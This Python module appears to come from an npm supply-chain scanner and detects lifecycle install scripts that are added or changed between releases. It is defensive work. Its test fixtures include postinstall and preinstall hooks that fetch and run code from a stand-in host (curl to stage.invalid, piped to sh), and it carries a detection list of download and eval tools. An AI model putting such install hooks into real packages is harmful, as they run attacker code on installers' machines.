"""This update adds or changes a script that the client runs at installation.

## What it detects
A lifecycle script of npm (`preinstall`, `install`, `postinstall` and what else a consumer's client runs) that the
earlier release did not have, or whose command changed. It tells apart a script that runs code of this very update
which acts (starts processes, connects, reads secrets, decodes, is obfuscated, is not understood), one whose command
itself fetches or evaluates, one that runs a new file which merely computes or prints, and a plain command.
At first contact it only points at scripts that act on hidden text; ordinary install scripts are left alone.

## Why it matters
An install script runs with the rights of whoever types `npm install`, before a line of the package is used. Of 75
documented incidents 29 added or changed one, and each of these came with a new file, a download or a second runtime.

## What it misses
Code that waits for the import; a script that was always there and runs a file that changed (see
autorun-capability-gained and the flow detectors); a `binding.gyp` (see implicit-hook-added).

## References
- npm documentation, *scripts*: life cycle operations
- Zahan et al., *What are Weak Links in the npm Supply Chain?* (arXiv 2112.10165)
- MITRE ATT&CK T1546.016, Installer Packages
"""

from collections.abc import Iterator

from lazaretto.core.facts import Kind, Reach
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.manifest import HookKind
from lazaretto.core.question import (
    ACTS,
    MAX_EVIDENCE,
    Tally,
    command_files,
    decoded,
    hidden,
    hook_place,
    package_json,
    shown,
)
from lazaretto.core.started import is_tame, starts_tame
from lazaretto.core.update import HookChange, Placed, Update

CARD = Card(
    id="lifecycle-script-added",
    title="Lifecycle script added or changed",
    variants={
        "with-payload": "The new or changed script runs code of this update that acts, or fetches or evaluates.",
        "with-new-file": "The new or changed script runs a file that this update adds or changes.",
        "added": "The script is new and runs nothing that this update brings.",
        "changed": "The command of a script changed and runs nothing that this update brings.",
        "first-contact": "There is no earlier release; the script runs code that acts on hidden text.",
    },
    group="install-hook",
    why="An install script runs with the user's rights before the package is ever used.",
    attack=("T1195.002", "T1546.016"),
)

_FETCHERS = (
    "curl",
    "wget",
    "iwr",
    "irm",
    "invoke-webrequest",
    "bitsadmin",
    "certutil",
    "powershell",
    "mshta",
    "osascript",
)
_BODIES = (" -e ", " --eval", " -c ", " -enc", " -p ", "eval ", "|sh", "| sh", "|bash", "| bash", "| node", "|node")

EXAMPLES = (
    Example(
        title="a new postinstall script runs a new file that downloads and starts a program",
        before={"package.json": package_json("1.0.0"), "index.js": "module.exports = 1;\n"},
        after={
            "package.json": package_json("1.0.1", scripts={"postinstall": "node setup.js"}),
            "index.js": "module.exports = 1;\n",
            "setup.js": "const { execSync } = require('child_process');\n"
            "execSync('curl -s http://stage.invalid/a -o /tmp/a');\n",
        },
        expect="with-payload",
        at="package.json:6",
    ),
    Example(
        title="a new preinstall script fetches in the command itself",
        before={"package.json": package_json("1.0.0"), "index.js": "module.exports = 1;\n"},
        after={
            "package.json": package_json("1.0.1", scripts={"preinstall": "curl -s https://stage.invalid/x | sh"}),
            "index.js": "module.exports = 1;\n",
        },
        expect="with-payload",
        at="package.json:6",
    ),
    Example(
        title="a new postinstall script prints a request for donations",
        before={"package.json": package_json("1.0.0"), "index.js": "module.exports = 1;\n"},
        after={
            "package.json": package_json("1.0.1", scripts={"postinstall": "node banner.js"}),
            "index.js": "module.exports = 1;\n",
            "banner.js": "console.log('Thank you for using example-pad');\n",
        },
        expect="with-new-file",
        at="package.json:6",
    ),
    Example(
        title="an install script that was always there, in a patch release",
        before={
            "package.json": package_json("1.0.0", scripts={"postinstall": "node install.js"}),
            "install.js": "require('child_process').execFileSync('node', ['--version']);\n",
        },
        after={
            "package.json": package_json("1.0.1", scripts={"postinstall": "node install.js"}),
            "install.js": "require('child_process').execFileSync('node', ['--version']);\nconsole.log('ok');\n",
        },
    ),
    Example(
        title="a script for the author's own machine",
        before={"package.json": package_json("1.0.0"), "index.js": "module.exports = 1;\n"},
        after={
            "package.json": package_json("1.0.1", scripts={"test": "node --test", "build": "node build.js"}),
            "index.js": "module.exports = 1;\n",
        },
    ),
    Example(
        title="first contact with a package whose postinstall script checks its own binary",
        after={
            "package.json": package_json("1.0.0", scripts={"postinstall": "node install.js"}),
            "install.js": "require('child_process').execFileSync('node', ['--version']);\n",
        },
    ),
)


_MESSAGES = {
    "with-payload": "runs at installation a script that acts",
    "with-new-file": "runs at installation a file that it adds or changes",
    "added": "adds a script that runs at installation",
    "changed": "changes a script that runs at installation",
    "first-contact": "runs at installation a script that acts on hidden text",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant, with the values that the scripts' files hide."""
    tally = Tally(CARD)
    for change in update.hooks_changed():
        if change.hook.kind is HookKind.SCRIPT:
            _judge(change, tally)
    yield from tally.findings(_MESSAGES)


def _judge(change: HookChange, tally: Tally) -> None:
    """Show the manifest line first, then what the files do, then what they hide."""
    pair, hook = change.pair, change.hook
    told, place = f"{hook.name}: {shown(hook.command)}", hook_place(pair, hook)
    acts = [placed for placed in pair.after.placed if placed.reach is Reach.INSTALL and placed.fact.kind in ACTS]
    if pair.before is None:
        acts = [placed for placed in acts if hidden(placed.fact) or placed.fact.kind is Kind.OBFUSCATED]
        variant = "first-contact" if acts else ""
    else:
        changed = [placed for placed in acts if placed.path in pair.changes and placed.path != hook.path]
        acts = [placed for placed in changed if not starts_tame(pair.after, placed)]
        variant = _variant(change, acts)
    if variant:
        tally.say(variant, told, place, *(pair.evidence(placed) for placed in acts[:MAX_EVIDENCE]))
        for path in dict.fromkeys(placed.path for placed in acts):
            tally.explain(variant, decoded(pair, path))


def _variant(change: HookChange, acts: list[Placed]) -> str:
    pair, command = change.pair, change.hook.command
    files = [path for path in command_files(command, pair.after.tree) if path in pair.changes]
    unread = {path for path, _ in pair.after.problems}
    if acts or (fetches(command) and not is_tame(pair.after, command)) or not unread.isdisjoint(files):
        return "with-payload"
    if files:
        return "with-new-file"
    return "changed" if change.before else "added"


def fetches(command: str) -> bool:
    """Whether a command line downloads, or carries or receives the code that it runs."""
    text = f" {command.lower()} ".replace("||", ";")  # what is tried instead receives nothing
    words = text.replace("/", " ").replace(";", " ").replace("&", " ").replace("|", " ").split()
    return any(word.removesuffix(".exe") in _FETCHERS for word in words) or any(body in text for body in _BODIES)
